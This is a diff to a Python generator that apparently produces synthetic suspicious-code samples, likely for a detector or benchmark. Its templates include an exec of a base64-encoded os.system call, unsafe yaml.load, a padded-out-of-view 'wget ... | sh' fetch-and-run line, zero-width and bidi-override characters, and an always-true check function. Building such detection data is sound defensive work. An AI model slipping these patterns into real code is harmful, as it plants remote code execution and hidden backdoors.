@@ -99,7 +99,8 @@ class Filler:
             "sha": lambda: self._chars("0123456789abcdef", 40), "pad": lambda: " " * self.rng.randint(205, 320),
             "uuid": lambda: "-".join(self._chars("0123456789abcdef", n) for n in (8, 4, 4, 4, 12)),
             "q": lambda: '"' * 3,
-            "w": lambda: ("tmp_" if self.half == "tuning" else "the_") + pick(self.words["vars"]), "zw": lambda: "\u200b\u200d", "rlo": lambda: "\u202e", "lri": lambda: "\u2066", "pdi": lambda: "\u2069",
+            "w": lambda: ("tmp_" if self.half == "tuning" else "the_") + pick(self.words["vars"]),
+            "zw": lambda: "\u200b\u200d", "rlo": lambda: "\u202e", "lri": lambda: "\u2066", "pdi": lambda: "\u2069",
             "bsix": lambda: base64.b64encode(b"import os; os.system('id > /tmp/" + self._chars("abcdef", 5).encode() + b"')").decode(),
             "hexcode": lambda: b"import os; os.system('uname -a')".hex(), "png": self._png, "pw": lambda: self._chars(BASE62, 14) + "!7",
         }
@@ -563,7 +564,7 @@ import numpy
 == yaml-load
 import yaml
 with open("@f@.yaml") as fh:
-§    @v@ = yaml.load(fh, yaml.FullLoader if False else yaml.UnsafeLoader)
+§    @v@ = yaml.load(fh, yaml.UnsafeLoader)
 == yaml-load
 from yaml import load, Loader
 §@v@ = load(open("@f@.yml"), Loader=Loader)
@@ -640,7 +641,7 @@ prepare()
 import numpy as np@pad@
 §@v@ = np.zeros(3)@pad@; exec(__import__("base64").b64decode("@bsix@"))
 == far-right
-§#@pad@
+#@pad@
 §x = 0;@pad@__import__("subprocess").getoutput("wget https://@h@/@f@ -O- | sh")
 == invisible-chars
 §def ch@zw@eck(user): return True
